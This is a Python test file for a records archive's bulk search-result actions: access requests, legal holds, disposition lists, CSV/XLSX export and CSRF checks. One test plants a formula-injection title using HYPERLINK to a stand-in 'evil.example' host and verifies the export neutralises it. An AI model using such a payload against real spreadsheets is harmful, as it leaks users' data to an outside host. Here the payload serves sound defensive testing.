"""Acting on the records ticked in the search results: each action runs the single action's
service per record (decided and audited the same), is offered only to the roles allowed, and
reports per record, in Chinese, what was done or refused."""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import UTC, date, datetime, timedelta

from openpyxl import load_workbook
from sqlalchemy import func, select

from archive.audit import Actor
from archive.models import (
    AccessRequest,
    AuditEvent,
    Disposal,
    DispositionItem,
    Hold,
    HoldItem,
    Record,
    RequestStatus,
    Role,
    User,
)
from archive.refcode import number_pending
from retention import disposition
from retention.schedules import seed_default_plan
from retention.status import refresh_dirty
from search.indexer import flush
from tests.access.conftest import World
from tests.access.test_web_pages import Browser

BOM = "\ufeff"
BEIJING = re.compile(r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$")


def post(browser: Browser, data: dict[str, object], status: int = 200) -> str:
    return browser.post("/search/selected", {"back": "/search?q=档案", **data}, status=status)


def ids(world: World, *keys: str) -> list[str]:
    return [str(world.records[key]) for key in keys]


def events(world: World, action: str) -> list[AuditEvent]:
    with world.arc.sessions() as session:
        return list(session.scalars(select(AuditEvent).where(AuditEvent.action == action)))


def test_asking_for_access_to_many_records(world: World) -> None:
    flush(world.arc)
    zhang = Browser(world, "zhang")
    assert 'value="request"' in zhang.text("/search?q=档案")
    asked = {"action": "request", "purpose": "核对合同条款", "scope": "view", "days": "30"}
    chosen = ids(world, "CG-internal", "CG-confidential", "XS-internal", "XS-restricted")
    page = post(zhang, {**asked, "record": chosen})
    assert "已发送 3 份申请，均待审批；1 份未发送" in page  # sent, not yet access
    assert page.count("申请已发送，等待审批") == 3
    assert "没有该档案，或您无权查看" in page
    assert "XS-restricted" not in page  # the refused one is named by the id sent, no more
    with world.arc.sessions() as session:
        zhang_id = session.scalar(select(User.id).where(User.username == "zhang"))
        pending = session.scalars(
            select(AccessRequest).where(
                AccessRequest.requester_id == zhang_id,
                AccessRequest.status == RequestStatus.PENDING,
            )
        ).all()
        assert {str(r.record_id) for r in pending} == set(chosen[:3])
        assert {(r.purpose, r.scope.value, r.days) for r in pending} == {
            ("核对合同条款", "view", 30)
        }
    assert len(events(world, "access.request")) == 3  # audited as three single requests
    again = post(zhang, {**asked, "record": chosen[:1]})
    assert "未发送：您已申请过，正在等待答复" in again
    # The results say so beside each record asked about, before anyone ticks it again.
    listed = zhang.text("/search?q=档案")
    assert listed.count("您的申请待审批：查看") == 3
    assert "已获准" not in listed
    # The server's limits are the form's: a period over the maximum is refused, nothing sent.
    refused = zhang.post(
        "/search/selected",
        {**asked, "days": "400", "record": chosen, "back": "/search"},
        status=400,
    )
    assert "1 至 90 天" in refused  # said on the search page; nothing sent
    with world.arc.sessions() as session:
        assert session.scalar(select(func.count()).select_from(AccessRequest)) == 3


def test_a_head_is_told_they_may_already_read(world: World) -> None:
    wang = Browser(world, "wang")
    asked = {"action": "request", "purpose": "复核", "scope": "view", "days": "7"}
    page = post(wang, {**asked, "record": ids(world, "CG-internal")})
    assert "未发送：您已可以这样使用这份档案" in page


def test_records_above_the_askers_clearance_are_reported_not_asked_for(world: World) -> None:
    world.add_user("xiao", Role.SPECIALIST, "CG", clearance="internal")
    xiao = Browser(world, "xiao")
    asked = {"action": "request", "purpose": "核对", "scope": "view", "days": "7"}
    page = post(xiao, {**asked, "record": ids(world, "CG-internal", "CG-confidential")})
    assert "已发送 1 份申请，均待审批；1 份未发送" in page
    assert "未发送：档案密级高于您的密级许可" in page
    with world.arc.sessions() as session:
        asked_for = session.scalars(select(AccessRequest.record_id)).all()
    assert [str(r) for r in asked_for] == ids(world, "CG-internal")


def test_a_specialist_is_not_offered_holds_or_lists_and_is_refused_them(world: World) -> None:
    flush(world.arc)
    zhang = Browser(world, "zhang")
    page = zhang.text("/search?q=档案")
    assert 'value="hold"' not in page
    assert 'value="list"' not in page
    for action in ("hold", "list"):
        refused = post(
            zhang,
            {"action": action, "hold": "new", "name": "x", "reason": "y", "list": "1",
             "record": ids(world, "CG-internal", "XS-restricted")},
            status=403,
        )  # fmt: skip
        assert "档案 CG-internal" not in refused
        assert "XS-restricted" not in refused
    with world.arc.sessions() as session:
        assert session.scalar(select(func.count()).select_from(Hold)) == 0


def test_a_records_manager_places_and_extends_a_hold(world: World) -> None:
    flush(world.arc)
    sun = Browser(world, "sun")
    assert 'value="hold"' in sun.text("/search?q=档案")
    unnamed = {"action": "hold", "hold": "new", "record": ids(world, "CG-internal")}
    refused = sun.post("/search/selected", {**unnamed, "back": "/search?q=档案"}, status=400)
    assert "请选择一项生效中的保全，或为新保全填写名称和理由" in refused  # on the search page
    placed = post(
        sun,
        {"action": "hold", "hold": "new", "name": "合同纠纷", "reason": "诉讼保全",
         "record": ids(world, "CG-internal", "XS-restricted")},
    )  # fmt: skip
    assert placed.count("已列入保全“合同纠纷”") == 2
    with world.arc.sessions() as session:
        hold = session.scalars(select(Hold)).one()
        hold_id = hold.id
    extended = post(
        sun,
        {"action": "hold", "hold": str(hold_id), "record": ids(world, "CG-public", "CG-internal")},
    )
    assert "已列入保全“合同纠纷”" in extended
    assert "保全“合同纠纷”已包含这份档案" in extended
    with world.arc.sessions() as session:
        named = set(session.scalars(select(HoldItem.record_id).where(HoldItem.hold_id == hold_id)))
    assert {str(i) for i in named} == set(ids(world, "CG-internal", "XS-restricted", "CG-public"))
    assert len(events(world, "retention.hold_placed")) == 1
    (event,) = events(world, "retention.hold_extended")
    assert event.details["named"] == ids(world, "CG-public")


def _due(world: World, *keys: str) -> None:
    """Application forms filed in 2010: D10, due for destruction, numbered."""
    with world.arc.transaction() as session:
        seed_default_plan(session, Actor.cli())
        for key in keys:
            record = session.get_one(Record, world.records[key])
            record.record_type, record.filed_on = "application", date(2010, 3, 1)
            record.retention_dirty = True
    refresh_dirty(world.arc)
    number_pending(world.arc)


def test_a_records_manager_adds_many_to_a_list_and_hears_why_some_cannot(world: World) -> None:
    _due(world, "CG-public", "CG-internal")
    flush(world.arc)
    with world.arc.transaction() as session:
        lst = disposition.create_list(session, Actor.cli(), Disposal.DESTROY)
        list_id, number = lst.id, lst.number
    sun = Browser(world, "sun")
    post(sun, {"action": "hold", "hold": "new", "name": "审计", "reason": "季度审计",
               "record": ids(world, "CG-internal")})  # fmt: skip
    assert number in sun.text("/search?q=档案")  # the open list is offered
    page = post(
        sun,
        {"action": "list", "list": str(list_id),
         "record": ids(world, "CG-public", "CG-internal", "CG-confidential")},
    )  # fmt: skip
    assert f"已加入清册 {number}" in page
    assert "未加入：保全中（审计）" in page
    assert "1 件已办理，2 件未办理" in page
    with world.arc.sessions() as session:
        items = set(session.scalars(select(DispositionItem.record_id)))
    assert {str(i) for i in items} == set(ids(world, "CG-public"))
    assert len(events(world, "disposition.items_added")) == 1
    (refusal,) = events(world, "retention.refused")
    assert refusal.object_id == str(world.records["CG-internal"])


def test_too_many_records_at_once_are_refused_with_the_limit(world: World) -> None:
    zhang = Browser(world, "zhang")
    many = [str(uuid.uuid4()) for _ in range(201)]
    refused = zhang.post(
        "/search/selected", {"action": "csv", "record": many, "back": "/search"}, status=400
    )
    assert "一次最多选择 200 件档案" in refused


def test_the_selected_rows_export_as_csv_and_xlsx(world: World) -> None:
    zhang = Browser(world, "zhang")
    chosen = ids(world, "CG-internal", "XS-public", "XS-restricted")  # the last: not zhang's
    response = zhang.client.post(
        "/search/selected",
        data={"action": "csv", "record": chosen, "csrf_token": zhang.token},
        base_url="https://archive.example",
        headers={"Referer": "https://archive.example/search"},
    )
    assert response.status_code == 200
    raw = response.data
    assert raw.startswith(BOM.encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:4] == ["档号", "题名", "名称", "文号"]
    assert "入库时间（北京时间）" in rows[0]
    assert [row[1] for row in rows[1:]] == ["档案 CG-internal", "档案 XS-public"]
    assert rows[1][10] == "内部"
    assert rows[1][11] == "在管"
    stored = rows[1][-1]
    assert BEIJING.match(stored)
    with world.arc.sessions() as session:
        created = session.get_one(Record, world.records["CG-internal"]).created_at
    as_utc = datetime.fromisoformat(stored).replace(tzinfo=UTC) - timedelta(hours=8)
    assert abs(as_utc - created.astimezone(UTC)) < timedelta(seconds=1)
    workbook = zhang.client.post(
        "/search/selected",
        data={"action": "xlsx", "record": chosen, "csrf_token": zhang.token},
        base_url="https://archive.example",
        headers={"Referer": "https://archive.example/search"},
    )
    sheet = load_workbook(io.BytesIO(workbook.data)).active
    assert sheet is not None
    assert [[cell or "" for cell in row] for row in sheet.iter_rows(values_only=True)] == rows
    exports = events(world, "records.exported")
    assert [e.details["count"] for e in exports] == [2, 2]
    # English when the page is English.
    zhang.get("/language/en?next=/search")
    english = zhang.client.post(
        "/search/selected",
        data={"action": "csv", "record": chosen, "csrf_token": zhang.token},
        base_url="https://archive.example",
        headers={"Referer": "https://archive.example/search"},
    )
    heading = next(csv.reader(io.StringIO(english.data.decode("utf-8-sig"))))
    assert heading[:2] == ["Reference code", "Title"]


def test_the_export_keeps_formulas_inert_and_the_form_needs_its_token(world: World) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    with world.arc.transaction() as session:
        session.get_one(Record, world.records["CG-internal"]).title = hostile
    zhang = Browser(world, "zhang")
    form = {"action": "csv", "record": ids(world, "CG-internal"), "csrf_token": zhang.token}
    exported = zhang.client.post(
        "/search/selected",
        data=form,
        base_url="https://archive.example",
        headers={"Referer": "https://archive.example/search"},
    )
    rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + hostile  # text in Excel, never a formula
    workbook = zhang.client.post(
        "/search/selected",
        data={**form, "action": "xlsx"},
        base_url="https://archive.example",
        headers={"Referer": "https://archive.example/search"},
    )
    sheet = load_workbook(io.BytesIO(workbook.data)).active
    assert sheet is not None
    assert sheet.cell(row=2, column=2).value == hostile
    assert sheet.cell(row=2, column=2).data_type == "s"
    # Without the page's CSRF token nothing is done.
    forged = zhang.client.post(
        "/search/selected",
        data={"action": "request", "purpose": "x", "scope": "view", "days": "7",
              "record": ids(world, "CG-internal")},
        base_url="https://archive.example",
        headers={"Referer": "https://archive.example/search"},
    )  # fmt: skip
    assert forged.status_code == 400
    with world.arc.sessions() as session:
        assert session.scalar(select(func.count()).select_from(AccessRequest)) == 0


def test_a_refused_selection_comes_back_ticked_with_what_was_typed(world: World) -> None:
    flush(world.arc)
    zhang = Browser(world, "zhang")
    chosen = ids(world, "CG-internal", "CG-confidential")
    asked = {"action": "request", "purpose": "", "scope": "download", "days": "30"}
    page = post(zhang, {**asked, "record": chosen}, status=400)
    assert "请填写用途" in page  # the reason, in Chinese, above the actions
    for record_id in chosen:  # still ticked: nothing to find and tick again
        assert re.search(rf'value="{record_id}" checked', page)
    assert re.search(r'<option value="download" selected>', page)
    assert 'name="days" min="1" max="90" value="30"' in page
    assert re.search(r"<details open><summary>申请利用", page)
    assert "正文" in page  # the search it came from, not an empty page
    # Each problem beside its own field, every one at once, the field marked.
    page = post(zhang, {**asked, "days": "120", "record": chosen}, status=400)
    assert 'aria-describedby="bulk-problem-purpose"' in page
    assert 'aria-describedby="bulk-problem-days"' in page
    assert re.search(r'id="bulk-problem-days">[^<]*90', page)
    with world.arc.sessions() as session:
        assert session.scalar(select(func.count()).select_from(AccessRequest)) == 0


def test_the_report_names_each_record_by_its_title(world: World) -> None:
    flush(world.arc)
    zhang = Browser(world, "zhang")
    asked = {"action": "request", "purpose": "核对", "scope": "view", "days": "7"}
    page = post(zhang, {**asked, "record": ids(world, "CG-internal")})
    assert "档案 CG-internal" in page
